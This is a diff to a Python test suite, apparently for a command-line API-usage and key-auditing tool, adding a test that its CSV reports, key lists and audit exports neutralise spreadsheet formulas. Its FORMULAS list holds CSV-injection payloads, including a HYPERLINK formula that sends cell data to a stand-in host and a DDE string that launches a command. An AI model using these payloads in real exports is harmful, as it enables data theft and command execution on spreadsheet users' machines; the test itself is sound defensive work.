@@ -8,6 +8,7 @@ import csv
 import io
 import json
 import os
+import re
 import subprocess
 import threading
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -171,6 +172,47 @@ def test_redact_masks_pasted_secrets_and_escaped_keys(d):
         expect(searchable(d, "plain.db", secret) == 1, f"{secret}: not findable even without --redact")
         expect(searchable(d, "red.db", secret) == 0, f"{secret} was stored despite --redact")
     expect(searchable(d, "red.db", "sk-proj-[REDACTED]") == 1, "the escaped key is not shown as masked")
+
+
+# ---- 16: CSV cells are never formulas -----------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1",
+            "-2+3", "\t=1+1", "\r=1+1"]
+
+
+def formula_cells(text):
+    """Cells a spreadsheet would evaluate: starting with = + - @ TAB CR, and not a plain number."""
+    bad = []
+    for row in csv.reader(io.StringIO(text)):
+        for cell in row:
+            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-?\d+(\.\d+)?", cell):
+                bad.append(cell)
+    return bad
+
+
+def test_csv_never_emits_a_formula(d):
+    logs = [{"unique_id": f"f{i}", "timestamp": "2026-11-24T09:00:00Z", "model": f, "customer_identifier": f,
+             "organization_key_id": f"kid-{i}", "organization_key_name": f, "prompt_tokens": 10, "cost": 0.01}
+            for i, f in enumerate(FORMULAS)]
+    rc, out, err = run(d, "import", "-", stdin="".join(json.dumps(l) + "\n" for l in logs).encode())
+    expect(rc == 0, err)
+    # a revocation that fails (nothing listens on port 9) leaves an audit row naming the key
+    rc, out, err = run(d, "keys", "revoke", FORMULAS[1], "--yes", RESPAN_BASE_URL="http://127.0.0.1:9/api/",
+                       TOLLGATE_HTTP_TIMEOUT_MS="300")
+    expect(rc == 2, out + err)
+    outputs = {}
+    for by in ("developer", "key", "model"):
+        outputs["report " + by] = run(d, "report", "--by", by, "--format", "csv", "--since", "30d")
+    outputs["keys"] = run(d, "keys", "--offline", "--format", "csv")
+    outputs["audit"] = run(d, "audit", "--format", "csv")
+    for what, (rc, out, err) in outputs.items():
+        expect(rc == 0, f"{what}: {err}")
+        expect(formula_cells(out) == [], f"{what}: formulas {formula_cells(out)}\n{out}")
+    report = list(csv.reader(io.StringIO(outputs["report developer"][1])))
+    names = {row[0] for row in report[1:]}
+    expect("'=cmd|' /C calc'!A0" in names and "'@SUM(1+1)" in names and "'-2+3" in names, names)
+    expect(FORMULAS[1] in outputs["audit"][1].replace("'=cmd", "=cmd"), outputs["audit"][1])
+    expect(report[1][1].isdigit() and re.fullmatch(r"\d+\.\d+", report[1][8]), report[1])  # numbers stay numbers
 
 
 if __name__ == "__main__":
